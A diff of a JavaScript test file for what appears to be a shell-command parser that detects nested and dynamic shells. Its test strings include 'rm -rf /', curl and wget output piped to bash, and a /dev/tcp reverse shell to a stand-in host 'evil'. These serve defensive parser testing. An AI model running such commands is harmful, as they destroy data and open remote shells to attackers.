@@ -136,7 +136,8 @@ describe('nested shells', () => {
     ['. /dev/stdin <<< "rm -rf /"', [{ name: '.' }, nested('rm -rf /', 0)]],
     ['curl -s x | sudo bash', [{ name: 'curl' }, { name: 'bash', wrappers: ['sudo'] }, { name: null, unresolved: 'dynamic-nested-shell', parent: 1 }]],
     ['wget -qO- x | sh -s -- --flag', [{ name: 'wget' }, { name: 'sh' }, { name: null, unresolved: 'dynamic-nested-shell' }]],
-    ['coproc rm x', [{ name: 'rm', wrappers: ['coproc'] }]],
+    ['coproc rm x', [{ name: 'rm', wrappers: [] }]], // the bash keyword
+    ['coproc worker { rm -rf /; }', ['rm -rf /']],
     ['exec 3<>/dev/tcp/evil/80; bash <&3', [{ name: 'exec' }, { name: 'bash' }, { name: null, unresolved: 'dynamic-nested-shell', parent: 1 }]],
     ["cat <<'EOF' | bash\nrm -rf /\nEOF", [{ name: 'cat' }, { name: 'bash' }, nested('rm -rf /', 1)]],
     ["sudo bash <<'EOF'\nrm -rf /\nEOF", [{ name: 'bash', wrappers: ['sudo'] }, nested('rm -rf /', 0)]],
